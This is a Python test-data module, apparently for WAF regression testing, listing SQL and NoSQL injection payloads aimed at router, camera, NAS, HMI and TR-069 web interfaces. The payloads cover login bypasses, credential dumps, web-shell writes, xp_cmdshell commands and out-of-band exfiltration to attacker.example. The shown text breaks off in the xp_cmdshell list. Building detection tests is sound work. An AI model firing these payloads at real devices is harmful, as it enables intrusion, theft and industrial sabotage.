"""Blind set "twohundredthird": SQL and NoSQL injection aimed at the web front ends of embedded and IoT devices,
with benign requests in which network and facilities engineers type the same words innocently.

The angle: embedded and IoT web interfaces, recalled from memory. Home and SOHO routers (goform and boaform
handlers, /cgi-bin/*.cgi on lighttpd, boa, mini_httpd or GoAhead, LuCI, HNAP), IP cameras and NVRs, NAS boxes,
printers' embedded web servers, VPN and firewall appliances, smart-home hubs and their cloud portals, industrial
HMIs, SCADA historians and PLC gateways, set-top boxes and their middleware, TR-069 auto-configuration servers and
UPnP/SOAP control points, and the monitoring tools (Cacti, Zabbix, LibreNMS) that poll them. Small devices keep
their users, logs and event tables in SQLite; NAS boxes, portals and network monitors run MySQL/MariaDB or
PostgreSQL; HMIs and historians run SQL Server; carrier back ends run Oracle; IoT clouds and ACSs run MongoDB.
Each payload uses the device's own parameter style (login_name, ping_addr, channel, serial, sort) and reaches the
family's goal on the named database: bypass the login, dump the user or device table, read a file, write a web
shell, run a command, or leak data out of band. A comment above each group names the device and the target.

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the device's parameter names (username, ping_addr, mac, devname, channel,
sid, ssid, host, sort, serial, loginPwd, filter), once the way a WAF regression suite sends it (placements
prefixed "rs-"): to device paths that are not our routes (/goform/formLogin, /cgi-bin/login.cgi, /cgi-bin/luci,
/boaform/admin/formPing, /HNAP1/, /api/v1/devices, /, /index.php) as a query string, form body, JSON body, XML
body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole login documents of
companion apps and IoT portals go as the JSON body; goform logins and Express/PHP bracket operators
(`password[$ne]=1`) go as raw `name=value` form pairs; TR-069 Inform and UPnP SOAP envelopes go as the whole XML
body. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of how
embedded web interfaces build their queries, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredthird"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")
XML = ("xml", "rs-xml")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that break out of the string or number the device's CGI splices in
LIBINJECTION: list[Entry] = [
    # SOHO router, /cgi-bin/login.cgi on lighttpd: the user field goes into a SQLite query on /var/users.db
    "admin' or '1'='1",
    "admin' or 1=1--",
    "' or 1=1 limit 1--",
    "x' or 'a'='a'--",
    # IP camera on GoAhead, /cgi-bin/viewer.cgi?channel=1: the numeric channel goes unquoted into SQLite
    "1 or 1=1",
    "1) or (1=1",
    "-1 or 1=1--",
    "1 and 0 or 1",
    # NAS file station, share search: MySQL, the name is quoted with single quotes, backslash escaping off
    "a' or 'x'='x",
    "' or ''='",
    "nas01' || 1#",
    "\\' or 1=1#",
    # network printer's embedded web server, address book lookup: the entry is wrapped in double quotes (SQLite)
    '" or "1"="1',
    '") or ("a"="a',
    # NVR event log search: the date range is spliced into SQLite with quotes
    "2024-01-01' or 1=1--",
    "2024-06-30') or ('1'='1",
    # smart-home cloud portal (MariaDB), device rename: the new name goes into an UPDATE ... WHERE name='...'
    "Kitchen Light' or 1=1-- -",
    "hall-sensor' or 'a'<>'b'#",
    # HMI tag browser on SQL Server: the tag filter is a quoted string
    "TankLevel' or 1=1--",
    "PLC1' or 'a'='a' --",
    # firewall appliance reporting UI on PostgreSQL: numeric rule id and quoted user name
    "1 or true",
    "' or true--",
    "' or 'a'::text='a'--",
    # carrier TR-069 ACS on Oracle: the CPE serial number is a quoted string
    "' or 1=1 or ''='",
    # TR-069 Inform from a CPE: the ACS stores DeviceId fields with string-built SQL (MySQL)
    ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
     'xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:Inform><DeviceId><Manufacturer>ACME</Manufacturer>'
     "<OUI>00259E</OUI><ProductClass>HG8245</ProductClass><SerialNumber>48575443' or '1'='1</SerialNumber>"
     "</DeviceId></cwmp:Inform></soap:Body></soap:Envelope>",) + XML,
    # UPnP IGD control point: the port mapping description lands in the router's SQLite mapping table
    ('<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
     '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewExternalPort>8080'
     "</NewExternalPort><NewPortMappingDescription>x' or 1=1--</NewPortMappingDescription>"
     "</u:AddPortMapping></s:Body></s:Envelope>",) + XML,
    # set-top box middleware (MySQL), channel guide: the programme id is numeric
    "101 or 2>1",
    "101 || 1",
    # VPN appliance portal login realm (PostgreSQL)
    "Users' or 1=1--",
]

# sql-tautology/boolean: the always-true condition, and the true/false pair that reads data one bit at a time
TAUTOLOGY: list[Entry] = [
    # router admin login (SQLite): conditions that are always true
    "' or 1=1#",
    "' or 2>1--",
    "' or 'abc'='abc",
    "' or not 1=2--",
    "' or 3-2=1--",
    "' or 0=0 --",
    '" or 0=0 --',
    # IP camera user list, numeric uid (SQLite): the true/false pair of a boolean-blind probe
    "1 and 1=1",
    "1 and 1=2",
    "1 and (select count(*) from users)>0",
    "1 and (select length(password) from users where username='admin')>8",
    "1 and (select substr(password,1,1) from users where username='admin')='a'",
    "1 and (select 1 from sqlite_master limit 1)=1",
    "admin' and substr(sqlite_version(),1,1)='3'--",
    # NAS user manager (MySQL)
    "admin' and 1=1#",
    "admin' and 1=2#",
    "1' and (select count(*) from mysql.user)>0#",
    "' or current_user=current_user#",
    "1' and 'a'='a",
    # firewall appliance (PostgreSQL)
    "1 and 1=1::int",
    "' or 1::bool--",
    "1 and (select usesuper from pg_user where usename=current_user)",
    # SCADA historian on SQL Server
    "1 and 1=(select 1)--",
    "' or 1=1 and 'x'='x",
    "1 and (select count(*) from Users)>0--",
    # TR-069 ACS on Oracle
    "' or 1=(select 1 from dual)--",
    "' or (select count(*) from all_users)>0--",
    # smart-home hub (MariaDB), device id in the schedule editor
    "42 and true",
    "42 and false",
]

# sql-comment-sequence: comments that cut off the password check or the rest of the CGI's query
COMMENT: list[Entry] = [
    # router /goform/formLogin (SQLite): the rest of WHERE user='...' AND pass='...' is cut off
    "admin'--",
    "admin'-- -",
    "root'--",
    "admin')--",
    "admin'))--",
    "admin'/**/or/**/1=1--",
    # boaform handler on a GPON ONT (MySQL): every MySQL comment style
    "admin'#",
    "support'#",
    "admin'/*",
    "telecomadmin'-- ",
    "1'--+",
    "' or 1=1/*",
    "user'/*x*/or/**/1=1#",
    "admin';#",
    # IP camera ONVIF user table (SQLite): a numeric field with its tail commented out
    "1;--",
    "1--",
    "1/**/or/**/1=1",
    "1 or 1=1;--",
    # NVR remote login (SQL Server on the Windows NVR): -- ends the statement
    "admin';--",
    "' or 1=1 -- -",
    "'/**/or/**/'1'='1'--",
    # HMI web client (SQL Server), the comment opens in the user field and closes in the password field
    "operator'/*",
    "*/or 1=1--",
    # firewall appliance (PostgreSQL): -- and /* */ both end the query
    "admin'--\n",
    "' or 1=1/* rest */--",
    # TR-069 ACS (Oracle): the statement ends at --
    "acs'--",
    "' or 1=1--",
    # printer admin PIN (SQLite): the numeric PIN check commented out
    "0 or 1--",
]

# union-select: a second SELECT that brings the device's credential or config table into the page
UNION: list[Entry] = [
    # router status page (SQLite): the client list query has three columns
    "' union select 1,username,password from users--",
    "-1 union select 1,sqlite_version(),3--",
    "0 union select name,sql,3 from sqlite_master--",
    "' union select null,group_concat(username||':'||password),null from accounts--",
    # IP camera (SQLite), channel list: four columns
    "1 union select 1,2,3,4--",
    "-1 union all select user,pass,3,4 from user_info--",
    "-1 union select wifi_ssid,wifi_key,3,4 from wireless--",
    # NAS (MySQL) share browser
    "' union select 1,user(),version(),database()#",
    "-1' union select 1,group_concat(user,0x3a,authentication_string),3 from mysql.user#",
    "') union select null,null,@@datadir#",
    "-1 union select 1,@@hostname,@@version_compile_os#",
    # Cacti (MySQL), graph view: the user_auth table
    "-1 union select 1,username,password from user_auth#",
    "1) union select 1,concat(username,0x3a,password),3,4 from user_auth#",
    # Zabbix frontend (MySQL): the users and sessions tables
    "-1 union select 1,alias,passwd from users#",
    "-1 union select sessionid,userid,3 from sessions where status=0#",
    # firewall appliance reporting (PostgreSQL)
    "' union select null,version(),null--",
    "' union select 1,usename,passwd from pg_shadow--",
    "-1 union select current_database(),current_user--",
    "' union all select null,string_agg(username||':'||password,','),null from admin_users--",
    # HMI / SCADA historian (SQL Server)
    "' union select 1,@@version,db_name()--",
    "' union all select name,password_hash from sys.sql_logins--",
    "-1 union select null,system_user,host_name()--",
    "' union select top 1 UserName,Password from Users--",
    # TR-069 ACS (Oracle)
    "' union select banner,null from v$version--",
    "' union select username,password from dba_users--",
    # set-top box middleware (MySQL): subscriber PINs
    "-1 union select 1,account_id,pin from subscribers#",
    # LibreNMS-style device table (MySQL): SNMP communities of every polled router
    "-1 union select hostname,community,authpass from devices#",
    # NVR event log (SQLite) through the ONVIF search endpoint, union in a SOAP string field
    ('<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>'
     '<FindEvents xmlns="http://www.onvif.org/ver10/search/wsdl"><StartPoint>2024-01-01\' union select '
     "username,password,3 from users--</StartPoint></FindEvents></s:Body></s:Envelope>",) + XML,
]

# stacked-queries: a second statement after ';' that changes the device's accounts, logs or configuration
STACKED: list[Entry] = [
    # router (SQLite, sqlite3_exec runs every statement): reset the admin password, add an admin
    "1; update users set password='admin' where username='admin'--",
    "'; insert into users(username,password,role) values('svc','svc','admin');--",
    "1; drop table syslog;--",
    "'; delete from firewall_rules;--",
    "1; update settings set value='1' where name='remote_mgmt';--",
    # router with php-cgi on lighttpd (SQLite): ATTACH writes a web shell into the document root
    "1; attach database '/www/cgi-bin/s.php' as s; create table s.t(c text); "
    "insert into s.t values('<?php system($_GET[c]);?>');--",
    # IP camera (SQLite): wipe the motion events and add an RTSP viewer
    "1; delete from events;--",
    "'; insert into rtsp_users values('view','view');--",
    # NAS (MySQL with multi-statements on)
    "1; insert into users(name,pass,is_admin) values('x','x',1)#",
    "'; update mysql.user set authentication_string='' where user='root';#",
    "1; set global general_log_file='/share/Web/g.php';#",
    # firewall appliance (PostgreSQL)
    "'; alter user admin with password 'Owned123';--",
    "'; create role svc superuser login password 'p';--",
    "1; update vpn_users set enabled=true where username='contractor';--",
    "'; truncate audit_log;--",
    # HMI / SCADA historian (SQL Server)
    "1; exec sp_configure 'show advanced options',1; reconfigure;--",
    "'; insert into Users(UserName,Password,Role) values('ops','ops',1);--",
    "'; update AlarmConfig set Enabled=0;--",
    "'; delete from Historian.dbo.Events;--",
    "'; shutdown with nowait;--",
    "1; update Setpoints set Value=999 where Tag='BoilerTemp';--",
    # smart-home cloud portal (MySQL): take over a hub by rewriting its owner
    "1; update hubs set owner_id=1337 where serial='HUB-00A1';#",
    "'; drop table device_tokens;#",
    # TR-069 ACS (Oracle PL/SQL block)
    "'; begin execute immediate 'grant dba to acs_ro'; end;--",
    # set-top box middleware (PostgreSQL): give every box every package
    "1; update subscriptions set package='ALL';--",
    # printer accounting (SQLite): zero the page counters
    "1; update job_accounting set pages=0;--",
]

# time-based-blind: the response waits when the guessed condition is true
TIME: list[Entry] = [
    # router or camera (SQLite has no sleep: an expensive function or a cross join holds the response)
    "1 and 1=randomblob(500000000)",
    "' and 1=like('ABCDEFG',upper(hex(randomblob(300000000/2))))--",
    "1 or (select count(*) from sqlite_master a, sqlite_master b, sqlite_master c)>0",
    # NAS / smart-home portal (MySQL)
    "' and sleep(5)#",
    "1 and sleep(5)",
    "'-sleep(5)-'",
    "1' and if(1=1,sleep(5),0)#",
    "' or benchmark(5000000,md5(1))#",
    "1 and (select * from (select(sleep(5)))a)",
    "' and if(substr(user(),1,1)='r',sleep(3),0)#",
    "admin' and (select sleep(5) from dual where 1=1)#",
    "1) and sleep(5)#",
    "' and sleep(5) and '1'='1",
    '" and sleep(5) and "1"="1',
    "1 and benchmark(3000000,sha1('x'))",
    # firewall appliance (PostgreSQL)
    "';select pg_sleep(5);--",
    "1 and 1=(select 1 from pg_sleep(5))",
    "' or (select 1 from pg_sleep(5)) is null--",
    "1;select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--",
    "' and 1=(select 1 from pg_sleep(5) where current_user='postgres')--",
    # HMI / historian (SQL Server)
    "'; waitfor delay '0:0:5'--",
    "1; waitfor delay '00:00:05'--",
    "1 if (1=1) waitfor delay '0:0:5'--",
    "'; if (select count(*) from Users)>0 waitfor delay '0:0:5'--",
    "'; if (ascii(substring(db_name(),1,1))>64) waitfor delay '0:0:3'--",
    # TR-069 ACS (Oracle)
    "' and 1=dbms_pipe.receive_message('a',5)--",
    "' || dbms_pipe.receive_message(('x'),5) || '",
    # smart-home portal (MySQL): xor keeps the quoted value's WHERE clause valid around the sleep
    "' xor sleep(5) xor '",
]

# error-based: the database's error message carries the data back into the device's error page
ERROR: list[Entry] = [
    # NAS / Cacti / Zabbix (MySQL)
    "' and extractvalue(1,concat(0x7e,version()))#",
    "' and updatexml(1,concat(0x7e,user()),1)#",
    "1 and extractvalue(rand(),concat(0x3a,(select password from users limit 1)))",
    "' and (select 1 from (select count(*),concat(database(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)#",
    "1 and exp(~(select * from (select user())a))",
    "' and polygon((select * from (select * from (select @@version)f)x))#",
    "1 and updatexml(1,concat(0x7e,(select group_concat(table_name) from information_schema.tables "
    "where table_schema=database())),1)",
    "' and extractvalue(1,concat(0x5c,(select username from user_auth limit 0,1)))#",
    "1 and updatexml(null,concat(0x0a,@@hostname),null)",
    # firewall appliance / VPN portal (PostgreSQL)
    "' and 1=cast(version() as int)--",
    "' and 1=cast((select passwd from pg_shadow limit 1) as int)--",
    "1 and 1=cast(current_user as integer)",
    "' and (select version())::int=1--",
    "';select cast(chr(126)||version()||chr(126) as numeric)--",
    "1 and 1=cast((select string_agg(username,',') from admin_users) as int)",
    # HMI / historian (SQL Server)
    "' and 1=convert(int,@@version)--",
    "' and 1=convert(int,(select top 1 name from sys.tables))--",
    "1 and 1=convert(int,db_name())",
    "' and 1=cast(system_user as int)--",
    "' + convert(int,(select top 1 Password from Users)) + '",
    "1 and 1=convert(int,(select top 1 TagName+':'+Value from Tags))--",
    # TR-069 ACS (Oracle)
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and (select upper(xmltype(chr(60)||chr(58)||user||chr(62))) from dual) is not null--",
    "' and 1=to_number((select password from acs_users where rownum=1))--",
    # router or camera (SQLite): an overflow or malformed JSON errors only when the guess is true
    "1 and 1=abs(-9223372036854775808)",
    "1 and (case when (select substr(password,1,1) from users limit 1)='a' "
    "then abs(-9223372036854775808) else 1 end)=1",
    "' and (case when (select count(*) from users)>1 then json('x') else 1 end)=1--",
]

# out-of-band: read device files, write a web shell, or send the data to an outside host
OOB: list[Entry] = [
    # NAS (MySQL, FILE privilege, secure_file_priv empty as the vendor ships it)
    "' union select load_file('/etc/shadow'),2#",
    "1 union select 1,load_file('/etc/lighttpd/lighttpd.conf')#",
    "1 and (select load_file('/proc/self/environ')) is not null",
    "' union select '<?php system($_GET[c]);?>',2 into outfile '/share/Web/c.php'#",
    "' union select 1,2 into outfile '/var/www/html/x.php' lines terminated by '<?php passthru($_GET[x]);?>'#",
    "1 union select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/udf.so'#",
    # MySQL on a Windows-based NVR: load_file of a UNC path makes a DNS lookup that carries the password
    "' union select load_file(concat('\\\\\\\\',(select password from users limit 1),'.oob.attacker.example\\\\a')),2#",
    # firewall appliance (PostgreSQL)
    "'; copy (select '') to program 'nslookup oob.attacker.example';--",
    "'; create extension dblink; select dblink_connect('host=attacker.example user=a password=b dbname=c');--",
    "1;select dblink_send_query('host=oob.attacker.example dbname=x','select 1');--",
    "'; copy admin_users to '/tmp/u.csv';--",
    "' union select pg_read_file('/etc/passwd'),null--",
    "'; select lo_import('/etc/shadow');--",
    "'; copy (select passwd from pg_shadow) to program 'curl -d @- http://attacker.example/c';--",
    # HMI / historian (SQL Server): UNC paths make the server authenticate to the attacker's SMB share
    "'; exec master..xp_dirtree '\\\\attacker.example\\share';--",
    "'; exec master..xp_fileexist '\\\\oob.attacker.example\\a';--",
    "1; exec xp_subdirs '\\\\x.attacker.example\\y';--",
    "'; select * from openrowset('SQLOLEDB','server=attacker.example;uid=sa;pwd=p','select 1');--",
    "'; declare @q varchar(99);set @q='\\\\'+(select top 1 Password from Users)+'.oob.attacker.example\\a';"
    " exec master..xp_dirtree @q;--",
    "'; select * from openrowset(bulk 'C:\\Windows\\win.ini',single_clob) as x;--",
    # TR-069 ACS (Oracle)
    "' union select utl_http.request('http://attacker.example/'||(select user from dual)) from dual--",
    "' and 1=utl_inaddr.get_host_address((select user from dual)||'.oob.attacker.example')--",
    "' union select httpuritype('http://oob.attacker.example/'||user).getclob(),null from dual--",
    "' and extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.attacker.example/\">%x;]>'),'/l') is null--",
    # router with php-cgi (SQLite): ATTACH creates a PHP file in the web root
    "'; attach database '/www/shell.php' as x; create table x.p(d text); "
    "insert into x.p values('<?php passthru($_GET[c]);?>');--",
    # router or camera (SQLite with extension loading left on): a library from an SMB share
    "1 and load_extension('\\\\attacker.example\\s\\x.dll')",
    # smart-home portal (MySQL on Windows): the hub token table to a DNS name
    "1 and load_file(concat(0x5c5c5c5c,(select token from device_tokens limit 1),0x2e6f6f622e61747461636b65722e"
    "6578616d706c655c5c61))",
    # camera firmware backup in MySQL on the NVR: read the camera credentials file
    "-1 union select 1,load_file('/mnt/mtd/Config/Account1')#",
]

# information-schema/catalog probing: list the device's tables and columns before dumping them
CATALOG: list[Entry] = [
    # NAS / Cacti / Zabbix (MySQL)
    "' union select table_name,null from information_schema.tables#",
    "' union select column_name,null from information_schema.columns where table_name='users'#",
    "1 and (select count(*) from information_schema.schemata)>0",
    "' union select group_concat(schema_name),2 from information_schema.schemata#",
    "' and (select table_name from information_schema.tables where table_schema=database() limit 0,1) like 'u%'#",
    "1 union select 1,group_concat(column_name) from information_schema.columns where table_schema='zabbix'#",
    "' union select user,host from mysql.user#",
    "-1 union select 1,table_name from information_schema.tables where table_name like '%cam%'#",
    "-1 union select table_schema,table_name from information_schema.columns where column_name='password'#",
    # router / camera (SQLite)
    "' union select name,sql from sqlite_master where type='table'--",
    "1 union select tbl_name,2 from sqlite_master--",
    "' union select group_concat(name),1 from sqlite_master--",
    "' union select sql,null from sqlite_schema--",
    "1 and (select count(name) from sqlite_master where name='users')=1",
    "' union select name,type from pragma_table_info('users')--",
    # firewall appliance (PostgreSQL)
    "' union select table_name,null from information_schema.tables where table_schema='public'--",
    "' union select tablename,null from pg_tables--",
    "' union select datname,null from pg_database--",
    "' union select column_name,data_type from information_schema.columns where table_name='devices'--",
    "' union select relname,null from pg_class where relkind='r'--",
    # HMI / historian (SQL Server)
    "' union select name,null from sysobjects where xtype='U'--",
    "' union select name,null from master..sysdatabases--",
    "' union select table_name,column_name from information_schema.columns--",
    "' union select name,null from sys.tables--",
    "1 and (select count(*) from sys.objects)>0--",
    # TR-069 ACS (Oracle)
    "' union select table_name,null from all_tables--",
    "' union select owner,table_name from all_tab_columns where column_name like '%PASS%'--",
    "' union select tablespace_name,null from user_tablespaces--",
]

# mysql-comment-obfuscation: version comments and inline comments that hide keywords from a naive filter
MYCOMMENT: list[Entry] = [
    # NAS web UI (MySQL 5.x): the vendor's filter strips 'union select' but MySQL runs /*! ... */ bodies
    "1/*!union*//*!select*/1,2,3",
    "1 /*!50000union*/ /*!50000select*/ user(),2#",
    "'/*!or*/1=1#",
    "'/*!50000or*/ 1=1#",
    "1/**/union/**/select/**/username,password/**/from/**/users#",
    "1/*!12345union*//*!12345select*/1,2#",
    "'/**/and/**/sleep(5)#",
    "1 /*!union*/ all /*!select*/ 1,password from users#",
    "'/*!and*/extractvalue(1,concat(0x7e,version()))#",
    "1/*!32302and*/1=1",
    "1 /*!00000or*/ 1=1",
    # Cacti / LibreNMS (MySQL): comments in place of spaces past a space-stripping filter
    "'/*foo*/union/*bar*/select/*baz*/1,2,3#",
    "1/*!*/union/*!*/select/*!*/1#",
    "'/*!50000union*//*!50000all*//*!50000select*/1,@@version#",
    "1 union/*!select*/ 1,group_concat(user)from mysql.user#",
    "'or/*!50000sleep*/(5)#",
    "1 /*!union*//*!distinct*//*!select*/1,2#",
    "1 /*!44000union*/ select 1,2",
    "'/*!12345and*/(select/**/1)=1#",
    "'/*!30000or*/'a'='a",
    "1/*!50000order*//*!50000by*/5#",
    "user'/*!50000or*/user()like'root%'#",
    # smart-home cloud (MariaDB): MariaDB's own executable comment
    "1 /*M!union*/ /*M!select*/ 1,2#",
    "'/*M!50100or*/1=1#",
    "1 /*!50001union select*/ 1,@@hostname#",
    # set-top box middleware (MySQL): a newline after '#' starts the rest of the query again
    "1#\nunion select 1,pin from subscribers#",
    "'#\n/*!union*/select 1,2#",
    "1-- x\nunion/**/select/**/1,2#",
]

# function-based probing: substring/ascii/char/concat read the device's secrets one character at a time
FUNCTION: list[Entry] = [
    # NAS / Zabbix (MySQL)
    "1 and ascii(substring(user(),1,1))>64",
    "1 and ord(mid(version(),1,1))=53",
    "' and substring(@@version,1,1)='5'#",
    "' and char(97,100,109,105,110)=username#",
    "' union select concat(username,char(58),password),2 from users#",
    "' union select concat_ws(0x3a,user,authentication_string),2 from mysql.user#",
    "1 and length(database())>3",
    "1 and left(database(),1)='n'",
    "1 and ascii(substr((select passwd from users limit 1),1,1))>96",
    # router / camera (SQLite)
    "1 and unicode(substr(password,1,1))>100",
    "' and substr(sqlite_version(),1,1)='3'--",
    "' and instr(password,'a')>0--",
    "' union select char(65,66),2--",
    "1 and length(password)=8",
    "' union select username||':'||password,1 from users--",
    "1 and unicode(substr((select psk from wifi limit 1),1,1))=49",
    # firewall appliance (PostgreSQL)
    "1 and ascii(substr(current_user,1,1))=112",
    "' and substring(version(),1,10)='PostgreSQL'--",
    "' union select string_agg(usename,','),null from pg_user--",
    "1 and chr(65)='A'",
    "' and length(current_database())=6--",
    # HMI / historian (SQL Server)
    "1 and ascii(substring(system_user,1,1))=115--",
    "1 and unicode(substring(db_name(),1,1))>64",
    "' and len(@@servername)>0--",
    "' union select concat(Name,':',Password),null from Users--",
    "1 and charindex('Express',@@version)>0",
    # TR-069 ACS (Oracle)
    "' and ascii(substr(user,1,1))>64 and '1'='1",
    "' union select user||chr(58)||sys_context('userenv','ip_address'),null from dual--",
]

# sql-authentication-bypass: the device's own login forms and companion-app logins
AUTH: list[Entry] = [
    # router web login (SQLite), default account names of the vendors
    "admin' or '1'='1' -- ",
    "admin' or 1=1 limit 1 -- ",
    "' or username like 'admin' --",
    "root' or '1'='1",
    "support' --",
    "user'or'1'='1'#",
    "Admin' or 'x'='x",
    "ubnt' or 1=1-- -",
    "supervisor'--",
    "operator' or ''='",
    "guest') or ('1'='1",
    "' or role='admin'--",
    "x' or userid=1--",
    "admin\"--",
    'admin" or "1"="1',
    # login checks md5(password) against the row the query returns: a union supplies the row (MD5 of admin, of 123456)
    "' union select 1,'admin','21232f297a57a5a743894a0e4a801fc3',1--",
    "' union select 'admin','e10adc3949ba59abbe56e057f20f883e'--",
    # NAS (MySQL)
    "admin' and 1=1 or '1'='1",
    "' or 'a'='a' and username='admin'#",
    "' or true limit 1 offset 0 -- ",
    # goform and boaform login handlers: the whole form as the router's JavaScript posts it
    ("username=admin'--&password=x",) + KV,
    ("login_name=admin' or '1'='1&login_pass=x",) + KV,
    ("user=root'#&pwd=any",) + KV,
    ("loginUser=' or 1=1--&loginPwd=1",) + KV,
    ("challenge=&username=admin' or 1=1#&password=1&save=Login",) + KV,
    # smart-home hub and camera companion apps (JSON login to the vendor cloud, MySQL)
    ('{"username":"admin\' or 1=1-- -","password":"x"}',) + JB,
    ('{"account":"installer\'#","pwd":"0000"}',) + JB,
    ('{"email":"x\' or \'1\'=\'1","password":"x","deviceType":"android"}',) + JB,
    # HMI web client (SQL Server)
    "Engineer' or 1=1;--",
]

# nosql-injection: IoT clouds, device portals and TR-069 ACSs on MongoDB (operators and $where)
NOSQL: list[Entry] = [
    # camera / hub companion-app login to a Node.js cloud (Express JSON body parser, MongoDB)
    ('{"username":{"$ne":""},"password":{"$ne":""}}',) + JB,
    ('{"email":"installer@example.com","password":{"$gt":""}}',) + JB,
    ('{"deviceId":{"$regex":".*"},"token":{"$ne":null}}',) + JB,
    ('{"username":"admin","password":{"$regex":"^a"}}',) + JB,
    ('{"serial":{"$in":["HUB-0001","HUB-0002","HUB-0003"]},"claimCode":{"$exists":false}}',) + JB,
    ('{"mac":{"$regex":"^00:1A"},"owner":{"$exists":false}}',) + JB,
    ('{"$or":[{"role":"admin"},{"_id":{"$ne":null}}],"password":{"$ne":1}}',) + JB,
    ('{"$where":"sleep(5000)||true"}',) + JB,
    ('{"username":"admin","password":{"$not":{"$size":0}}}',) + JB,
    ('{"apiKey":{"$gt":""},"deviceId":{"$nin":[]}}',) + JB,
    # the same logins through PHP or Express qs bracket syntax in a form body
    ("username[$ne]=admin&password[$ne]=x",) + KV,
    ("serial[$ne]=0&token[$ne]=0",) + KV,
    ("user[$regex]=.*&pass[$gt]=",) + KV,
    ("deviceId[$exists]=true&key[$ne]=1",) + KV,
    ("email[$regex]=^admin&password[$ne]=",) + KV,
    ("login[$nin][]=&password[$ne]=",) + KV,
    ("filter[$where]=sleep(5000)",) + KV,
    # GenieACS-style ACS: the device query parameter is a MongoDB filter parsed from JSON
    '{"_id":{"$regex":"^"}}',
    '{"$where":"this._id.length>0"}',
    '{"_deviceId._SerialNumber":{"$ne":null}}',
    '{"$where":"function(){var d=new Date();while(new Date()-d<5000){};return true;}"}',
    # $where built by string concatenation in a device portal ("this.mac == '" + input + "'")
    "' || 1==1 || '",
    "';return true;//",
    "0;sleep(5000)",
    "00:11:22:33:44:55'||'a'=='a",
    "'; while(1){}; '",
    "';return this.password.length>0;var x='",
    "'&&this.role=='admin'&&'1'=='1",
]

# hex/char encoding: strings written without quotes, past a CGI that escapes or strips quotes
ENCODING: list[Entry] = [
    # NAS / Cacti (MySQL): hex literals and char() for strings
    "1 union select 1,load_file(0x2f6574632f706173737764)#",
    "1 or username=0x61646d696e",
    "1 and substring(user(),1,4)=char(114,111,111,116)",
    "-1 union select 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e,2 into outfile "
    "0x2f7661722f7777772f68746d6c2f632e706870#",
    "1 union select unhex('61646d696e'),2",
    "' or password=x'61646d696e'#",
    "-1 union select column_name,2 from information_schema.columns where table_name=0x7573657273#",
    "1 union select 1,load_file(char(47,101,116,99,47,115,104,97,100,111,119))#",
    "1 and (select count(*) from information_schema.tables where table_name=0x64657669636573)>0",
    # router / camera (SQLite)
    "' union select char(97,100,109,105,110),2--",
    "' or password=x'61646d696e'--",
    "1 and hex(username)='61646D696E'",
    "' union select cast(x'3c3f7068702073797374656d28245f4745545b635d293b3f3e' as text),1--",
    # firewall appliance (PostgreSQL)
    "' or username=convert_from(decode('61646d696e','hex'),'utf8')--",
    "' or username=$$admin$$--",
    "' or username=E'\\x61dmin'--",
    "' union select pg_read_file(convert_from(decode('2f6574632f706173737764','hex'),'utf8')),null--",
    "' or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    # HMI / historian (SQL Server)
    "'; declare @s varchar(200); set @s=0x73656c65637420404076657273696f6e; exec(@s);--",
    "' or UserName=char(97)+char(100)+char(109)+char(105)+char(110)--",
    "'; exec(char(120)+char(112)+char(95)+char(99)+char(109)+char(100)+char(115)+char(104)+char(101)"
    "+char(108)+char(108)+char(32)+char(39)+char(119)+char(104)+char(111)+char(97)+char(109)+char(105)+char(39));--",
    "' union select nchar(65)+nchar(66),null--",
    # TR-069 ACS (Oracle)
    "' union select utl_raw.cast_to_varchar2(hextoraw('61646d696e')),null from dual--",
    # a CGI that URL-decodes its input twice (busybox httpd plus the handler's own decoder)
    "%2527%20or%201%3D1--",
    "admin%27%20or%20%271%27%3D%271",
    # companion-app JSON login: JSON unicode escapes decode to quotes after the filter ran (MySQL)
    ('{"username":"\\u0027 or \\u00271\\u0027=\\u00271","password":"x"}',) + JB,
    ('{"serial":"HUB1\\u0027 union select token,2 from device_tokens#"}',) + JB,
]

# stored-procedure/xp_cmdshell: commands through the database on the device's back end
PROC: list[Entry] = [
    # HMI / SCADA historian (SQL Server on the engineering workstation)
    "'; exec master..xp_cmdshell 'whoami';--",
    "1; exec xp_cmdshell 'ping -n 5 10.0.0.1';--",
    "'; exec sp_configure 'xp_cmdshell',1; reconfigure;--",
